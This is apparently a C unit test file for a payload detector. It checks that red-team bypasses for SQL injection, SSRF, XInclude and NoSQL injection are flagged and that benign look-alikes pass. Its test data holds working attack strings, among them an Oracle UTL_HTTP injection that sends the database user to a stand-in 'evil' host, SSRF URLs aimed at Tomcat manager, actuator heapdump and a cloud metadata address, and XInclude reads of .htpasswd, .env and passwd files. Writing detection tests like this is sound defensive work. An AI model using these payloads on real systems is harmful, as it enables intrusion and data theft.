/* test_payload_r9a.c - issue 20, the review of the ninth red team's
 * merge (r9a): ways around its exemptions and kills it added.
 *  - sqli: Oracle's package as a quoted identifier ("UTL_INADDR".x(..)),
 *    a spreadsheet formula's quotes holding SQL between them
 *    (=a('=1||1=1-- ')), character codes of line breaks and tabs
 *    (CHAR(13)+CHAR(10)+CHAR(9): a query's formatting, hiding no text);
 *  - ssrf: a loopback "callback" that is a path parameter
 *    (/manager/html;callback: Tomcat and Spring request /manager/html);
 *  - xxe: an XInclude "beside the document" of a hidden file, the
 *    servlet's private directory, or a text file with no extension;
 *  - nosqli: a range filter's date bound that is no date ("0000-").
 * Attacks draw their kind as a query value and a form body and reach the
 * kill line (payload_rt_table.h); told rows stay under it. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define S PAYLOAD_SQLI
#define R PAYLOAD_SSRF
#define X PAYLOAD_XXE
#define Q PAYLOAD_NOSQLI
#define N PAYLOAD_NONE

static void test_sqli_exemptions(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		/* Oracle quotes a package's name as an identifier */
		{"1' AND 1=\"UTL_INADDR\".get_host_address((select user from dual))--", S},
		{"1' || \"UTL_HTTP\".request('http://evil/'||(select user from dual))--", S},
		/* the formula's quotes: SQL between them once a quote opens */
		{"=a('=1||1=1-- ')", S},
		{"=sum('-0||1=1-- ')", S},
		{"=a(\"=1||1=1#\")", S},
		/* codes of visible characters still build hidden text */
		{"chr(113)||chr(118)||chr(112)", S},
		{"CHAR(83)||CHAR(32)||CHAR(69)||CHAR(76)", S},
		{"CHAR(0x71)||CHAR(0x76)||CHAR(0x70)", S},
		{"chr (113)||chr (118)||chr (112)", S},
		/* MySQL's CHAR takes the codes as one list */
		{"1 union select CHAR(113,118,112)", S},
		{"CHAR(60,115,99,114,105,112,116,62)", S},
		/* ~0 with a blank between (the gate's door) */
		{"1 and ~ 0*2", S},
		{"1 and ~/**/0*2", S},
		/* line breaks and tabs are a query's formatting */
		{"CHAR(13)+CHAR(10)+CHAR(9)", N},
		{"chr(13)||chr(10)||chr(9)", N},
		{"CHAR(13,10)+CHAR(9)", N},
		{"SELECT CHAR(13)+CHAR(10)+CHAR(13)+CHAR(10)", N},
		{"=COUNTIF(B2:B100,\"<>\")", N},
		/* Java's Math.abs is no MySQL abs(); DISTINCT( is no call */
		{"1 and abs(-9223372036854775808)", S},
		{"Math.abs(-9223372036854775808) returns a negative number", N},
		{"abc HAVING ASCII(SUBSTRING(USER(),1,1))>84", S},
		{"groups HAVING COUNT(DISTINCT(user_id)) > 1", N},
		/* a catalog table and its alias, as a FROM takes them */
		{"mysql.user u", S},
		{"information_schema.tables t", S},
		{"=COUNTIFS(A:A,\">=10\",B:B,\"<5\")", N},
	};
	rt_run_kill("sqli", S, t, sizeof(t) / sizeof(t[0]));
}

static void test_ssrf_callback_parameter(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"http://127.0.0.1:8080/manager/html;callback", R},
		{"http://127.0.0.1:8080/actuator/env;callback", R},
		{"http://localhost:8080/actuator/heapdump;jsessionid=callback", R},
		/* the shared-address-space metadata address in a spelling no
		 * IP field holds */
		{"0x646464c8", R},
		{"0x64.0x64.0x64.0xc8", R},
		{"0144.0144.0144.0310", R},
		{"100.100.25800", R},
	};
	static const char *const told[] = {
		"http://localhost:3000/api/auth/callback/github",
		"http://127.0.0.1:8080/callback",
		"100.100.100.200",
	};
	rt_run_kill("ssrf", R, t, sizeof(t) / sizeof(t[0]));
	rt_below_kill("ssrf told", told, sizeof(told) / sizeof(told[0]));
}

static void test_xinclude_beside(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<xi:include href=\".htpasswd\" parse=\"text\"/>", X},
		{"<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\".env\" parse=\"text\"/></foo>", X},
		{"<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"WEB-INF/web.xml\"/></foo>", X},
		{"<xi:include href=\"etc/passwd\" parse=\"text\"/>", X},
		{"<xi:include href=\"app/.git/config\" parse='text'/>", X},
	};
	static const char *const told[] = {
		"<xi:include href=\"chapter1.xml\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>",
		"<xi:include href=\"examples/hello.c\" parse=\"text\"/>",
		"<xi:include href=\"part2/ch03.xml\"/>",
	};
	rt_run_kill("xinclude", X, t, sizeof(t) / sizeof(t[0]));
	rt_below_kill("xinclude told", told, sizeof(told) / sizeof(told[0]));
}

static void test_nosql_date_bound(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"{\"$gt\":\"0000-\"}", Q},
		{"{\"$gt\":\"1000-\\u0000\"}", Q},
		{"{\"$gte\":\"2024-\"}", Q},
	};
	static const char *const told[] = {
		"{\"$gt\":\"2024-01-01\"}",
		"{\"$gte\":\"2024-01-01T00:00:00Z\"}",
		"{\"$gte\":\"2024-01-01\",\"$lt\":\"2024-02-01\"}",
	};
	rt_run_kill("nosql", Q, t, sizeof(t) / sizeof(t[0]));
	rt_below_kill("nosql told", told, sizeof(told) / sizeof(told[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqli_exemptions),
		cmocka_unit_test(test_ssrf_callback_parameter),
		cmocka_unit_test(test_xinclude_beside),
		cmocka_unit_test(test_nosql_date_bound),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
